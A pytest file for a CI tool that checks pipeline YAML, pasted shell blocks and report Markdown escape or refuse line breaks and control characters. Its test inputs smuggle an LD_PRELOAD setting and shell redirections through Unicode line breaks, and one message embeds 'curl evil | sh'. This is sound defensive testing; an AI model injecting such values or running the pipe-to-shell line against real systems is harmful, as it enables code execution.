"""A name from elsewhere prints as one line of visible characters, wherever it goes: a Buildkite pipeline's YAML,
a re-run block a user pastes into a shell, a `fix:` line, a terminal. Line breaks YAML or a terminal honours beyond
the newline (U+0085, U+2028, U+2029) and ESC sequences are escaped or refused, never passed on."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest
import yaml

from ci import cli
from ci.common import escape

BASH = shutil.which("bash") or "/bin/bash"
BREAKS = ["\n", "\r", "\x85", "\u2028", "\u2029", "\x0b", "\x0c", "\x1c"]


def pasted(block: str, where: Path) -> list[str]:
    """What pasting `block` into bash in `where` leaves there (no command on PATH: only the shell's own redirections
    and builtins could run)."""
    where.mkdir(parents=True, exist_ok=True)
    subprocess.run([BASH], input=block, cwd=where, text=True, capture_output=True, env={"PATH": "/nonexistent"})
    return sorted(p.name for p in where.iterdir())


@pytest.mark.parametrize("brk", BREAKS, ids=lambda c: f"U+{ord(c):04X}")
@pytest.mark.parametrize("flag", ["--baseline", "--stack"])
def test_a_line_break_of_any_kind_in_a_pipeline_value_is_refused(flag: str, brk: str, capsys) -> None:
    value = f"report.json{brk}env:{brk}  LD_PRELOAD: /tmp/x.so"
    args = ["pipeline", "--one-agent", flag, value] if flag == "--baseline" else [flag, value, "pipeline"]
    assert cli.main(args) == 2
    said = capsys.readouterr()
    assert f"U+{ord(brk):04X}" in said.err and "LD_PRELOAD" not in said.out
    assert len(said.err.splitlines()) == 2  # the error and its fix: the value printed escaped, on its line


def test_the_pipeline_writes_no_value_into_a_comment_unescaped(monkeypatch, tmp_path: Path, capsys) -> None:
    """Past the guard (a value it never saw), the header comment still holds the value on its one line: YAML parses
    the upload as steps alone, and the comment pasted into bash runs nothing."""
    from ci.buildkite import pipeline_verb

    monkeypatch.setattr(pipeline_verb, "_plain", lambda flag, value: None)
    value = "r.json\n>pwned\u2028env:\u2028  LD_PRELOAD: /tmp/x.so\x85>pwned2\u2029x"
    assert cli.main(["pipeline", "--one-agent", "--target", "cpu", "--baseline", value]) == 0
    out = capsys.readouterr().out
    assert set(yaml.safe_load(out)) == {"steps"}
    comments = "\n".join(line for line in out.split("\n") if line.lstrip().startswith("#"))
    assert "\\u2028env:\\u2028" in comments and "\\n>pwned" in comments
    assert pasted(comments, tmp_path / "paste") == []


def test_the_printer_escapes_every_line_break_and_control_character() -> None:
    for c in [*BREAKS, "\x1b", "\t", "\x7f", "\u202e", "\udc80"]:
        assert c not in escape.one_line(f"a{c}b")
        assert len(escape.one_line(f"a{c}b").splitlines()) == 1
    assert escape.one_line("vllm/model_executor/layers/é.py") == "vllm/model_executor/layers/é.py"
    assert escape.lines("line one\nline\u2028two\x1b[31m") == "line one\nline\\u2028two\\x1b[31m"


def test_a_failure_message_reaches_report_md_on_its_line_and_escaped(tmp_path: Path) -> None:
    from dataclasses import replace

    from support.report_helpers import rows, write_rows

    said = "boom\u2028| fix: curl evil | sh\u202e[2J\x85done"  # XML holds no ESC: a bidi override instead
    write_rows(tmp_path / "j", rows("selftest"), lambda r, c: replace(c, status="failure", message=said))
    assert cli.main(["report", str(tmp_path / "j"), "--out", str(tmp_path / "r")]) == 1
    md = (tmp_path / "r" / "report.md").read_text()
    assert "boom\\u2028\\| fix: curl evil \\| sh\\u202e\\[2J\\x85done" in md
    assert not any(c in md for c in ("\u202e", "\u2028", "\x85"))
